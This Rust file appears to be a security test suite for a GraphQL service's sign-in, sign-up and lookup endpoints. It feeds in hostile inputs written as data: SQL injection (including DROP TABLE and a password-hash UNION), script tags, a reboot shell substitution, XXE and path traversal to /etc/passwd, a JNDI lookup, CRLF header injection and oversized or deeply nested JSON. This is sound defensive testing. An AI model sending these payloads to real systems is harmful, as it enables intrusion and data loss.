//! Values of variables: injections, wrong types, and what no text should hold.

use serde_json::{Value, json};

use crate::{
    case::{Case, Due, case, play},
    report::Outcome,
    send::{by_alice, by_nobody, post_body, read_anew},
    stage::Stage,
    support::Backend,
};

const SIGN_IN: &str =
    "mutation($e: String!, $p: String!) { signIn(input: {email: $e, password: $p}) { token } }";
const SIGN_UP: &str = "mutation($i: SignUpInput!) { signUp(input: $i) { token } }";
const OPERATION: &str = "query($id: ID!) { operation(id: $id) { id } }";
const CONNECT: &str =
    "mutation($i: ConnectOrangeHrmInput!) { connectOrangeHrm(input: $i) { operation { id } } }";
const BAD: Due = Due::Error(200, "BAD_USER_INPUT");

pub(crate) async fn area(backend: Backend) -> Outcome {
    let stage = Stage::start(backend).await;
    let cases = [injections(), types(), texts(), shapes()];
    let outcome = play(&stage, cases.into_iter().flatten().collect()).await;
    stage.stop().await;
    outcome
}

#[rustfmt::skip]
fn injections() -> Vec<Case> {
    let texts = [
        ("SQL", "' OR '1'='1"), ("SQL that drops", "'; DROP TABLE users; --"), ("SQL that joins", "x' UNION SELECT password_hash FROM users --"),
        ("SQL in backslashes", "\\' OR 1=1 --"), ("HTML", "<script>alert(1)</script>"), ("a template", "{{7*7}}${7*7}#{7*7}"), ("a format", "%s%n%x{}{0}"),
        ("a shell", "$(reboot)`reboot`;reboot"), ("LDAP", "*)(uid=*))(|(uid=*"), ("an XML entity", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;"),
        ("a log line", "x\n2026-11-22T00:00:00.000000Z  INFO forged"), ("CR LF", "x\r\nSet-Cookie: canary=1"), ("ANSI colours", "\u{1b}[31mred\u{1b}[0m"),
        ("NUL", "a\0b"), ("bidirectional text", "\u{202e}gnp.exe"), ("a byte order mark", "\u{feff}a"), ("a path", "../../../../etc/passwd"),
        ("a JNDI look-up", "${jndi:ldap://canary.example/a}"), ("a NoSQL operator", "{\"$ne\": null}"), ("100 KB", "LONG"),
    ];
    let mut cases = Vec::new();
    for (name, text) in texts {
        let text = if text == "LONG" { "x".repeat(100_000) } else { text.to_owned() };
        cases.push(case(format!("{name} as an id"), by_alice(OPERATION, &json!({ "id": text })), Due::Data(json!({ "operation": null }))));
        cases.push(case(format!("{name} as an address"), by_nobody(SIGN_IN, &json!({ "e": text, "p": "canary-pw" })), Due::Error(200, "INVALID_CREDENTIALS")));
        cases.push(case(format!("{name} as a new address"), by_nobody(SIGN_UP, &json!({ "i": { "email": text, "password": "canary-password" } })), BAD));
    }
    let header = format!("Authorization: Bearer {{alice}}\nX-Request-Id: x\n{}", "");
    let named = json!({ "query": "query A { __typename }\nquery B { __typename }", "operationName": "A\nforged" });
    cases.push(case("a log line as an operation's name", post_body(&header, &named.to_string()), Due::Error(200, "OPERATION_RESOLUTION_FAILURE")));
    cases
}

#[rustfmt::skip]
fn types() -> Vec<Case> {
    let follow = "query($n: Int) { me { id @skip(if: false) } x: operation(id: \"1\") { id } a: __typename @include(if: true) }";
    let mut cases: Vec<Case> = [
        json!(null), json!(true), json!([]), json!({}), json!([["a"]]), json!(1.5), json!({ "a": "canary-x" }), json!(["canary-x", "canary-y"]),
    ]
    .into_iter()
    .map(|id| case(format!("the id {id}"), by_alice(OPERATION, &json!({ "id": id })), Due::OneOf(&[200])))
    .collect();
    for (name, i) in [
        ("no input", Value::Null), ("a text for an input", json!("canary-x")), ("a list for an input", json!(["canary-x"])), ("a number for a password", json!({ "username": "a", "password": 7 })),
        ("a list for a password", json!({ "username": "a", "password": ["canary-x"] })), ("an object for a password", json!({ "username": "a", "password": { "a": "canary-x" } })),
        ("no password", json!({ "username": "canary-x" })), ("an unknown field", json!({ "username": "a", "password": "canary-x", "admin": true })),
        ("an empty password", json!({ "username": "canary-x", "password": "" })), ("an empty username", json!({ "username": "", "password": "canary-x" })),
        ("a password of 1,025 bytes", json!({ "username": "canary-x", "password": "x".repeat(1025) })), ("a username of 500 KB", json!({ "username": "x".repeat(500_000), "password": "canary-x" })),
        ("a null password", json!({ "username": "canary-x", "password": null })), ("__proto__", json!({ "username": "a", "password": "canary-x", "__proto__": { "a": 1 } })),
    ] {
        cases.push(case(format!("connectOrangeHrm with {name}"), by_alice(CONNECT, &json!({ "i": i })), Due::NoData));
    }
    for number in [json!(2_147_483_648_i64), json!(-2_147_483_649_i64), json!(9_007_199_254_740_993_i64), json!(1e300), json!("1"), json!(1.0), json!(true)] {
        cases.push(case(format!("an Int of {number}"), by_alice(follow, &json!({ "n": number })), Due::OneOf(&[200])));
    }
    cases
}

#[rustfmt::skip]
fn texts() -> Vec<Case> {
    let password = |text: &str| json!({ "i": { "email": "new@example.com", "password": text } });
    let mut cases: Vec<Case> = [("7 letters", "canary-"), ("nothing", ""), ("129 letters", &"x".repeat(129)), ("500 KB", &"x".repeat(500_000))]
        .iter()
        .map(|(name, text)| case(format!("a new password of {name}"), by_nobody(SIGN_UP, &password(text)), BAD))
        .collect();
    for email in [
        "alice", "@", "a@", "@b", "a@b@c", "a b@example.com", "a@example..com", "a@-example.com", "a@example.com\0", "<a@example.com>", "a@[127.0.0.1]", "a@localhost",
        "a@example.com, b@example.com", "a@example.com\r\nBcc: b@example.com", "\"a\r\n\"@example.com", "a@exa\u{0}mple.com", "a@exam\u{2028}ple.com",
    ] {
        cases.push(case(format!("the address {email:?}"), by_nobody(SIGN_UP, &json!({ "i": { "email": email, "password": "canary-password" } })), BAD));
    }
    for email in ["ALICE@EXAMPLE.COM", "  alice@example.com ", "Alice@Example.Com\n"] {
        cases.push(case(format!("a second account for {email:?}"), by_nobody(SIGN_UP, &json!({ "i": { "email": email, "password": "canary-password" } })), Due::Error(200, "EMAIL_TAKEN")));
    }
    cases.push(case("a password that is right but for its case", by_nobody(SIGN_IN, &json!({ "e": "alice@example.com", "p": "Correct Horse" })), Due::Error(200, "INVALID_CREDENTIALS")));
    cases.push(case("a password with a space after it", by_nobody(SIGN_IN, &json!({ "e": "alice@example.com", "p": "correct horse " })), Due::Error(200, "INVALID_CREDENTIALS")));
    cases.push(case("a password with NUL after it", by_nobody(SIGN_IN, &json!({ "e": "alice@example.com", "p": "correct horse\0" })), Due::Error(200, "INVALID_CREDENTIALS")));
    cases
}

#[rustfmt::skip]
fn shapes() -> Vec<Case> {
    let deep = |n: usize| format!("{}1{}", "{\"a\":".repeat(n), "}".repeat(n));
    let lists = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let body = |variables: &str| post_body("Authorization: Bearer {alice}\n", &format!("{{\"query\":{},\"variables\":{{\"id\":{variables}}}}}", json!(OPERATION)));
    vec![
        case("an object 120 deep", body(&deep(120)), Due::NoData),
        case("an object 1,000 deep", body(&deep(1000)), Due::Error(400, "BAD_REQUEST")),
        case("lists 120 deep", body(&lists(120)), Due::NoData),
        case("lists 100,000 deep", body(&lists(100_000)), Due::Error(400, "BAD_REQUEST")),
        case("a list of 100,000", body(&format!("[{}1]", "1,".repeat(100_000))), Due::Error(400, "BAD_REQUEST")),
        case("texts in texts that a JSON library reads anew, 1,400 deep", body(&read_anew(14, 100)), Due::NoData),
        case("a list of 100,000 in a text that a JSON library reads anew", body(&format!("{{\"$serde_json::private::RawValue\":\"[{}1]\"}}", "1,".repeat(100_000))), Due::NoData),
        case("a number of 100,000 digits", body(&"9".repeat(100_000)), Due::OneOf(&[200, 400])),
        case("1e400", body("1e400"), Due::OneOf(&[200, 400])),
        case("-0", body("-0"), Due::OneOf(&[200])),
        case("10,000 variables that nobody declared", by_alice("{ __typename }", &(0..10_000).map(|n| (format!("v{n}"), json!("canary-x"))).collect::<serde_json::Map<_, _>>().into()), Due::Error(400, "BAD_REQUEST")),
        case("the same variable twice", post_body("", "{\"query\":\"query($a:ID!){operation(id:$a){id}}\",\"variables\":{\"a\":\"1\",\"a\":\"2\"}}"), Due::OneOf(&[200, 400])),
        case("a variable named with NUL", by_alice("{ __typename }", &json!({ "\0": 1 })), Due::Data(json!({ "__typename": "Query" }))),
        case("a variable of a type that does not exist", by_alice("query($a: Canary) { __typename }", &json!({})), Due::Error(200, "GRAPHQL_VALIDATION_FAILED")),
        case("a variable that is not declared", by_alice("{ operation(id: $a) { id } }", &json!({ "a": "1" })), Due::Error(200, "GRAPHQL_VALIDATION_FAILED")),
        case("a variable of an output type", by_alice("query($a: User) { __typename }", &json!({})), Due::Error(200, "GRAPHQL_VALIDATION_FAILED")),
        case("a list type 60 deep", by_alice(&format!("query($a: {}ID{}) {{ __typename }}", "[".repeat(60), "]".repeat(60)), &json!({})), Due::Error(200, "QUERY_TOO_COMPLEX")),
    ]
}
